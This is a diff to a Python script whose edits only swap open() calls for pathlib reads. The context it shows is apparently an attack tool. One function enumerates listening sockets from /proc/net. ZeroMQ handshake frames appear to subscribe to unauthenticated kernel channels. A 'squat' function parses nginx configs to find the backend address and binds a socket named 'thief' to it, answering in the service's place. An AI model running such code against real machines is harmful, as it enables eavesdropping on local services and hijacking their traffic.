@@ -15,6 +15,7 @@ import signal
 import socket
 import sys
 import time
+from pathlib import Path
 
 GREETING = b"\xff\0\0\0\0\0\0\0\0\x7f\x03\0NULL".ljust(64, b"\0")  # ZMTP 3.0, no security
 READY = b"\x04\x19\x05READY\x0bSocket-Type\0\0\0\x03SUB"
@@ -24,12 +25,12 @@ ANSWER = b"HTTP/1.0 200 OK\r\nContent-Length: 10\r\n\r\nwelcome :)"
 
 def doors():
     """Give the addresses of all listening sockets, as the kernel tells everybody."""
-    for line in open("/proc/net/tcp").read().splitlines()[1:]:
+    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
         where, state = line.split()[1], line.split()[3]
         port = int(where.partition(":")[2], 16)
         if state == "0A" and port not in (22, 80):
             yield "127.0.0.1", port
-    for line in open("/proc/net/unix"):
+    for line in Path("/proc/net/unix").read_text().splitlines():
         found = re.search(r" 00010000 0001 \S+ +\S+ ([/@].*)", line)
         if found:
             yield re.sub("^@", "\0", found[1])
@@ -74,7 +75,7 @@ def iopub(word):
 
 
 def squat(word):
-    text = "".join(open(path).read() for path in glob.glob("/etc/nginx/sites-enabled/*"))
+    text = "".join(Path(path).read_text() for path in glob.glob("/etc/nginx/sites-enabled/*"))
     where = re.search(r"(?:server\s+|http://)(?:unix:(/[^;]*)|(127\.0\.0\.1):(\d+))", text)
     thief = socket.socket(socket.AF_UNIX if where[1] else socket.AF_INET)
     thief.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
